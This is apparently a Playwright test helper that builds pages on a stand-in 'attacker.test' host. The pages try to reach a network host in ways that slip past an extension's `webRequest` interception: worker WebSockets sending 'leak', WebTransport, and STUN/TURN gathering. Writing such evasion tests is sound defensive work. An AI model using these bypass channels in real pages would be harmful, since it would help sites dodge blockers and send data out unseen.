/**
 * Ways around `webRequest` (docs/facts.md, section 3, rows 47 to 51), as pages that try to reach a host. `globalThis.attack(host, port)`
 * returns how the attempt ended for the page; the test checks at the other end whether anything arrived.
 */
import type { Page } from '@playwright/test';
import type { Sites } from './sites.ts';

export const ATTACKS = ['sharedWorkerSocket', 'serviceWorkerSocket', 'webTransport', 'stun', 'turnTcp'] as const;
export type Attack = (typeof ATTACKS)[number];

/** Timeout of an attempt. */
const GIVE_UP_MS = 3_000;

const OPEN_SOCKET = `
  const openSocket = (host, port) => new Promise((done) => {
    const socket = new WebSocket('wss://' + host + ':' + port + '/leak');
    socket.onopen = () => socket.send('leak');
    socket.onmessage = ({ data }) => { socket.close(); done('echo ' + data); };
    socket.onerror = () => done('error');
    setTimeout(() => done('nothing'), ${GIVE_UP_MS});
  });`;

const SHARED_WORKER = `${OPEN_SOCKET}
  onconnect = ({ ports: [port] }) => { port.onmessage = async ({ data }) => port.postMessage(await openSocket(...data)); };`;

const SERVICE_WORKER = `${OPEN_SOCKET}
  onactivate = (event) => event.waitUntil(clients.claim());
  onmessage = (event) => event.waitUntil(openSocket(...event.data).then((outcome) => event.ports[0].postMessage(outcome)));`;

const PEER = `
  const gather = (server) => new Promise((done) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: server, username: 'u', credential: 'c' }] });
    peer.createDataChannel('x');
    const found = [];
    const finish = () => { peer.close(); done('candidates ' + found.join(' ')); };
    peer.onicecandidate = ({ candidate }) => candidate === null ? finish() : found.push(candidate.type);
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    setTimeout(finish, ${GIVE_UP_MS});
  });`;

const SCRIPTS: Record<Attack, string> = {
  sharedWorkerSocket: `
    globalThis.attack = (...target) => new Promise((done) => {
      const { port } = new SharedWorker('/shared-worker.js');
      port.onmessage = ({ data }) => done(data);
      port.postMessage(target);
    });`,
  serviceWorkerSocket: `
    globalThis.attack = async (...target) => {
      await navigator.serviceWorker.register('/service-worker.js');
      const { active } = await navigator.serviceWorker.ready;
      const { port1, port2 } = new MessageChannel();
      return new Promise((done) => {
        port1.onmessage = ({ data }) => done(data);
        active.postMessage(target, [port2]);
      });
    };`,
  webTransport: `
    globalThis.attack = (host, port) => Promise.race([
      new WebTransport('https://' + host + ':' + port + '/').ready.then(() => 'open', () => 'error'),
      new Promise((done) => setTimeout(done, ${GIVE_UP_MS}, 'nothing')),
    ]);`,
  stun: `${PEER} globalThis.attack = (host, port) => gather('stun:' + host + ':' + port);`,
  turnTcp: `${PEER} globalThis.attack = (host, port) => gather('turn:' + host + ':' + port + '?transport=tcp');`,
};

const ATTACKER = 'attacker.test';

export function addAttackPages(sites: Sites): void {
  for (const attack of ATTACKS) sites.page(ATTACKER, `/${attack}`, `<title>${attack}</title><script>${SCRIPTS[attack]}</script>`);
  for (const [path, text] of [
    ['/shared-worker.js', SHARED_WORKER],
    ['/service-worker.js', SERVICE_WORKER],
  ] as const) {
    sites.page(
      ATTACKER,
      path,
      (_request, response) => void response.writeHead(200, { 'Content-Type': 'text/javascript' }).end(text),
    );
  }
}

/** Opens the page of an attack and makes one attempt. @returns how it ended for the page */
export async function tryAttack(page: Page, sites: Sites, attack: Attack, host: string, port: number): Promise<string> {
  await page.goto(sites.secureUrl(ATTACKER, `/${attack}`));
  return page.evaluate(
    ([to, at]) => (globalThis as unknown as { attack(host: string, port: number): Promise<string> }).attack(to, at),
    [host, port] as const,
  );
}
